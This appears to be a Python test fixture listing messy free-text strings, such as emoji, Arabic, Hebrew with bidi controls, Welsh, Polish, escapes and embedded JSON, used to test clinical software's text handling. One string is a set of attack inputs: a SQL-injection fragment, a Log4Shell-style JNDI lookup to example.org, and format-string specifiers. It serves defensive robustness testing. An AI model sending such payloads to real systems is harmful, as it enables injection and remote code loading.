"""Free text as people really type it. Each of these has broken a clinical system somewhere."""

from __future__ import annotations

TEXTS: tuple[str, ...] = (
    'Prefers to be called Mags 😀👩‍👩‍👧‍👦; very worried about "the tablets".',
    'Copied from letter: see "reference":"Patient/123" and {"resourceType":"Patient","id":"9000000009"}.',
    "Café visits weekly; naïve to opioids; e\u0301 decomposed and \u00e9 composed are both here.",
    "المريضة تفضل التحدث بالعربية. Speaks Arabic at home.",
    "Mixed direction: \u202bשלום\u202c then back; zero\u200bwidth\u200djoiner\u200cs and a\u00a0hard space.",
    "Rare ideograph 𠮷 and 𝔹𝕡 written by OCR; family name as on passport 𠮷田.",
    'Path C:\\Users\\gp\\scan.tif; quote " backslash \\ slash / tab\there; <b>not markup</b> & &amp;',
    "Mae'r claf yn dymuno gohebiaeth yn Gymraeg: ŵ ŷ â ê î ô û.",
    "Line one\nLine two\r\nLine three; urn:uuid:00000000-0000-4000-8000-000000000000 is only text.",
    "Dose ½ tablet ≤ 2× daily, temp 38.5℃, ⚠️ do not crush; ’curly’ – dashes — and … dots.",
    "' OR 1=1; -- and ${jndi:ldap://example.org/a} and %s %n {0} were in the referral letter.",
    "Zażółć gęślą jaźń. Córka odbiera telefon po 17:00.",
)
